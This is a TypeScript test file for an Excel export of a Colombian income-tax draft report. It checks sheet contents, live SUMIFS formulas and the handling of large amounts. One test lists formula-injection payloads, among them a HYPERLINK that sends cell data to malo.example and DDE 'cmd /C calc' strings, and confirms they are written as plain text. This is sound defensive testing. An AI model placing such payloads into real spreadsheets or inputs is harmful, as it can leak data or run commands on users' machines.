import { openWorkbook, rowJsonLine } from '@accountia/excel-parser';
import { DECISION_OPTIONS } from '@accountia/tax-rules';
import exceljs from 'exceljs';
import { describe, expect, test } from 'vitest';
import type { ResultsReport } from '../report.ts';
import { entryId, sampleDraft, sampleEntry, sampleReport } from '../testing/sample-report.ts';
import { optionWords } from '../words.ts';
import { writeResultsWorkbook } from './write-workbook.ts';

/** The workbook as another program reads it. */
async function read(report: ResultsReport = sampleReport()) {
  const workbook = new exceljs.Workbook();
  const bytes = await writeResultsWorkbook(report);
  await workbook.xlsx.load(bytes as unknown as Parameters<typeof workbook.xlsx.load>[0]);
  return workbook;
}

function rowsOf(workbook: exceljs.Workbook, name: string): unknown[][] {
  const rows: unknown[][] = [];
  workbook.getWorksheet(name)!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

function formulas(workbook: exceljs.Workbook): string[] {
  const found: string[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === exceljs.ValueType.Formula) found.push(cell.formula);
      }),
    ),
  );
  return found;
}

describe('the results workbook', () => {
  test('opens in our own reader with five sheets in Spanish', async () => {
    await using workbook = await openWorkbook(await writeResultsWorkbook(sampleReport()));
    expect(workbook.sheets.map(({ name }) => name)).toEqual([
      'Resumen',
      'Datos',
      'Formulario 210',
      'Origen de casillas',
      'Revisión',
    ]);
    expect(workbook.warnings).toEqual([]);
  });

  test('shows each fact with who classified it and where it went in the draft', async () => {
    const [header, ...facts] = rowsOf(await read(), 'Datos');
    expect(header?.slice(0, 7)).toEqual([
      'Dato',
      'NIT informante',
      'Informante',
      'Detalle',
      'Valor',
      'Categoría',
      'En el borrador',
    ]);
    expect(facts.map((cells) => [cells[3], cells[4], cells[5], cells[6], cells[10]])).toEqual([
      ['Pagos por salarios (2276)', 79_390_257, 'Ingresos laborales', 'Casilla 32', 'Regla de Accountia'],
      [
        'Saldo cuenta de ahorros',
        12_000_000,
        'Patrimonio (bienes y derechos)',
        'Casilla 29',
        'Decisión de su organización',
      ],
      [
        'Bonos nunca vistos',
        -500,
        'Por clasificar',
        'No se sabe qué es: clasifíquela para que cuente.',
        'Sin clasificar',
      ],
    ]);
    expect(facts[1]?.slice(14)).toEqual([
      'Cuenta: ****1234',
      'reporteExogena2025.xlsx',
      'Reporte',
      21,
      'F21',
    ]);
  });

  test('has every box with its law, and a live sum of the facts behind it', async () => {
    const [, ...boxes] = rowsOf(await read(), 'Formulario 210');
    expect(boxes).toHaveLength(Object.keys(sampleDraft().boxes).length);
    const gross = boxes.find(([box]) => box === 32);
    expect(gross).toMatchObject([
      32,
      'Ingresos brutos (rentas de trabajo)',
      79_390_000,
      {
        formula: "SUMIFS('Origen de casillas'!$F:$F,'Origen de casillas'!$A:$A,32)",
        result: 79_390_257,
      },
      'Ajustada',
      expect.any(String),
      'art. 103 E.T.',
      'labour.gross',
    ]);
    expect(rowsOf(await read(), 'Origen de casillas')).toContainEqual([
      32,
      'Ingresos brutos (rentas de trabajo)',
      1,
      'PANADERÍA ÑANDÚ Y CÍA. S.A.S.',
      'Pagos por salarios (2276)',
      79_390_257,
    ]);
  });

  test('sums up by formulas whose results are already there', async () => {
    const workbook = await read();
    const rows = rowsOf(workbook, 'Resumen');
    const total = rows.find(([label]) => label === 'Ingresos laborales')!;
    expect(total[1]).toMatchObject({ result: 79_390_257 });
    const { formula } = total[1] as { formula: string };
    const place = /\$A(\d+)\)$/.exec(formula)?.[1];
    expect(workbook.getWorksheet('Resumen')!.getCell(`A${place}`).value).toBe('Ingresos laborales');
    expect(rows).toContainEqual(['Obligación de declarar', 'Debe declarar']);
    expect(rows).toContainEqual(['Fecha límite', '21 de octubre de 2026']);
    expect(rows).toContainEqual(['Borrador', 'Versión 3: sin saldo a pagar ni a favor']);
  });

  test('lists warnings, what nobody told, choices in words, and what does not count', async () => {
    const [, ...review] = rowsOf(await read(), 'Revisión');
    expect(review.map(([kind, subject]) => [kind, subject])).toEqual([
      ['Revisar', 'Un concepto por clasificar'],
      ['Por informar', 'Intereses de crédito de vivienda pagados'],
      ['Por decidir', 'Saldo cuenta de ahorros'],
      ['No suma', 'Bonos nunca vistos'],
    ]);
    expect(review[2]?.[3]).toBe('Se tomó: contar. Opciones: contar, no contar.');
  });

  test('without a draft says why in its place', async () => {
    const workbook = await read(
      sampleReport({ draft: { unavailable: 'No se conoce el formulario de 2019.' } }),
    );
    expect(rowsOf(workbook, 'Formulario 210')[1]).toContain('No se conoce el formulario de 2019.');
    expect(rowsOf(workbook, 'Datos')).toHaveLength(4);
  });
});

describe('a reported text', () => {
  const HOSTILE = [
    '=HYPERLINK("http://malo.example/?x="&A1,"ver")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    "=cmd|' /C calc'!A0",
  ];

  test('that looks like a formula stays the text that it is, in a cell in the format of text', async () => {
    const entries = HOSTILE.map((hostile, index) =>
      sampleEntry(20 + index, {
        detail: hostile,
        reporterName: hostile,
        reporterNit: hostile,
        reportedName: hostile,
        rule: hostile,
        additionalInformation: [{ key: hostile, value: hostile }],
      }),
    );
    const draft = sampleDraft();
    draft.leftOut = [{ entryId: entryId(20), amount: '1', reason: 'zero', text: HOSTILE[0]! }];
    const report = sampleReport({ entries, draft: { content: draft, version: null } });
    const hostileReport: ResultsReport = {
      ...report,
      documents: [{ ...report.documents[0]!, filename: HOSTILE[0]! }],
      summary: { ...report.summary, taxpayer: { documentType: '=1', number: '=2', name: HOSTILE[1]! } },
    };
    const workbook = await read(hostileReport);
    const harmless = await read();
    const ours = (formula: string) => formula.startsWith('SUMIFS(');
    expect(formulas(workbook).every(ours)).toBe(true);
    expect(formulas(workbook)).toHaveLength(formulas(harmless).length);
    const sheet = workbook.getWorksheet('Datos')!;
    HOSTILE.forEach((hostile, index) => {
      for (const column of [2, 3, 4, 12, 14]) {
        const cell = sheet.getCell(index + 2, column);
        expect(cell.type).toBe(exceljs.ValueType.String);
        // XML has one line end.
        expect(cell.value).toBe(hostile.replace('\r', '\n'));
        expect(cell.numFmt).toBe('@');
      }
    });
  });

  test('keeps what XML cannot hold as a mark, and what a cell cannot hold as its start', async () => {
    const entries = [
      sampleEntry(20, { detail: 'a\u0000b\u0008c\uD800d\uFFFE 😀 <&>"' }),
      sampleEntry(21, { detail: 'x'.repeat(40_000) }),
    ];
    await using workbook = await openWorkbook(await writeResultsWorkbook(sampleReport({ entries })));
    const details: unknown[] = [];
    for await (const batch of workbook.rows('Datos')) {
      for (const row of batch) {
        details.push(
          (JSON.parse(rowJsonLine('Datos', row)) as { cells: Record<string, unknown> }).cells['D'],
        );
      }
    }
    expect(details[1]).toBe('a\uFFFDb\uFFFDc\uFFFDd\uFFFE 😀 <&>"'.replace('\uFFFE', '\uFFFD'));
    expect(details[2]).toBe(`${'x'.repeat(32_766)}…`);
  });
});

describe('an amount', () => {
  test('is a number up to fifteen digits, and beyond them a text with all of them', async () => {
    const amounts = ['999999999999999', '-999999999999999', '1000000000000000', '-9007199254740993'];
    const entries = amounts.map((amount, index) => sampleEntry(20 + index, { amount }));
    const [, ...facts] = rowsOf(await read(sampleReport({ entries })), 'Datos');
    expect(facts.map((cells) => cells[4])).toEqual([
      999_999_999_999_999,
      -999_999_999_999_999,
      '1000000000000000',
      '-9007199254740993',
    ]);
  });
});

test('every option of a choice has words', () => {
  for (const option of new Set(Object.values(DECISION_OPTIONS).flat())) {
    expect(optionWords(option)).not.toBe(option);
  }
});
